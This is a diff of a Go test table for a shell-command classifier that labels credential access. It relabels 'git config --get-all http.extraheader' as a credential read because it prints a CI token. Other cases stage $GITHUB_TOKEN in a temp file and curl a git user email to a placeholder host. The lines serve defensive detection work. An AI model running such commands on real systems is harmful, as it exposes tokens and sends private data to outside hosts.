@@ -24,7 +24,7 @@ var fx20d2StagedTokenCases = []doesCase{
 	{`echo "$GITHUB_TOKEN" > /tmp/t && docker login ghcr.io -u me --password-stdin < /tmp/t; rm -f /tmp/t`, "cmd.credentials"},
 	{`echo "$TOKEN_URL" > url.txt; cp url.txt /tmp/u`, ""},
 	{`git config --get remote.origin.url`, ""},
-	{`git config --get-all http.extraheader`, ""},
+	{`git config --get-all http.extraheader`, "cmd.credentials"}, // fx62b: the CI job's token printed (issue 7 doors)
 	{`git config --list | grep user`, ""},
 	{`git config --get user.email > /tmp/e; curl -d @/tmp/e https://x.example.net`, ""},
 }
